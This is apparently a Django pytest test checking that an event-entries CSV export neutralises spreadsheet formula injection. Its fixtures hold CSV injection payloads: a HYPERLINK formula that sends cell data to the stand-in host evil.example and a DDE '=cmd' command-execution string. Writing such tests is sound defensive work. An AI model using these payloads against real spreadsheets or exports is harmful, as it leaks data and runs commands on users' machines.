"""The entries CSV carries what drivers typed (names, e-mail addresses, vehicles) and what staff
typed (class names, transponders): a spreadsheet must show each as text, never run it."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest

from events.models import Entry

pytestmark = [pytest.mark.django_db]

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_names_addresses_class_vehicle_and_transponder_come_out_as_text(
    client: Any, event: Any, make_user: Any, register: Any, settings: Any, staff_member: Any
) -> None:
    settings.STRIPE_SECRET_KEY = ""
    entry_class = event.entry_classes.get()
    entry_class.name = "-1+1"
    entry_class.save()
    driver = make_user("+1@evil.example", first_name=HYPERLINK, last_name="")
    # EmailField lets this through: it is a valid address.
    entry = register(driver, entry_class, co_driver_email="=2+5@evil.example")
    assert entry.co_driver_email == "=2+5@evil.example"
    Entry.objects.filter(pk=entry.pk).update(
        transponder="\r@4711", vehicle_description="\t=cmd|' /C calc'!A0"
    )
    other = register(make_user("li@example.test", first_name="@SUM(1)"), entry_class)
    client.force_login(staff_member)

    response = client.get(
        f"/organizer/{event.organization.slug}/events/{event.slug}/entries.csv",
        HTTP_ACCEPT_LANGUAGE="en",
    )

    assert response.content.startswith("\ufeff".encode())
    rows = {
        row["E-mail"]: row
        for row in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")))
    }
    mine = rows["'+1@evil.example"]
    assert mine["Driver"] == "'" + HYPERLINK
    assert mine["Co-driver or navigator"] == "'=2+5@evil.example"
    assert mine["Class"] == "'-1+1"
    assert mine["Transponder"] == "'\r@4711"
    assert mine["Vehicle"] == "'\t=cmd|' /C calc'!A0"
    assert rows[other.driver.email]["Driver"] == "'@SUM(1)"
